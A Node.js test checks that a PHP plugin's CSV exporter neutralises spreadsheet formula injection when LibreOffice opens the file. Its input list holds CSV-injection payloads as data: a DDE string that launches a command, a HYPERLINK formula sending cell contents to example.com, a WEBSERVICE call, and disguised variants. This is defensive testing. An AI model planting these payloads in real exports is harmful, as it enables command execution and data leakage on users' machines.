/** No cell of an exported file is a formula in LibreOffice, whatever separator it assumes. Runs where LibreOffice is installed. */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import test from 'node:test';
import { ROOT } from '../../env/paths.mjs';

/** Cells that spreadsheets would evaluate, and cells that only look like it. */
const CELLS = [
	'=1+1',
	'+1+1',
	'-2+3',
	'@SUM(A1)',
	'\t=1+1',
	' =1+1',
	'\u00a0=1+1',
	'＝1+1',
	'=HYPERLINK("http://example.com/?"&A1,"x")',
	"=cmd|' /C calc'!A0",
	'=WEBSERVICE("http://example.com")',
	'a;=1+1;b',
	'a\t=1+1',
	'a\r\n=1+1',
	'a,=1+1',
	'"=1+1"',
	'";=1+1;"',
	'-12.5',
	'plain',
];

const hasLibreOffice =
	spawnSync( 'soffice', [ '--version' ], { stdio: 'ignore' } ).status === 0;

if ( hasLibreOffice ) {
	test( 'no cell becomes a formula', { timeout: 180_000 }, () => {
		const folder = mkdtempSync( join( tmpdir(), 'frontage-csv-' ) );
		try {
			execFileSync( 'php', [
				'-r',
				`define( 'ABSPATH', '/' );
				require $argv[1];
				$rows = array_map( static fn ( string $cell ): array => array( $cell, 'next' ), json_decode( $argv[2], true ) );
				file_put_contents( $argv[3], Frontage\\Base\\Csv_Format::write( $rows ) );`,
				join( ROOT, 'includes/Base/Csv_Format.php' ),
				JSON.stringify( CELLS ),
				join( folder, 'cells.csv' ),
			] );
			// By commas, semicolons and tabs; as Unicode; "evaluate formulas" on, which is off unless someone chooses it.
			for ( const separator of [ 44, 59, 9 ] ) {
				const filter = `CSV:${ separator },34,76,1,,0,false,true,false,false,false,-1,true`;
				execFileSync(
					'soffice',
					[
						`-env:UserInstallation=${ pathToFileURL( join( folder, 'profile' ) ) }`,
						'--headless',
						`--infilter=${ filter }`,
						'--convert-to',
						'fods',
						'--outdir',
						folder,
						join( folder, 'cells.csv' ),
					],
					{ stdio: 'ignore' }
				);
				const sheet = readFileSync(
					join( folder, 'cells.fods' ),
					'utf8'
				);
				assert.match( sheet, /plain/ );
				assert.deepEqual(
					sheet.match( /table:formula="[^"]*"/g ) ?? [],
					[],
					`separator ${ separator }`
				);
			}
		} finally {
			rmSync( folder, { recursive: true, force: true } );
		}
	} );
}
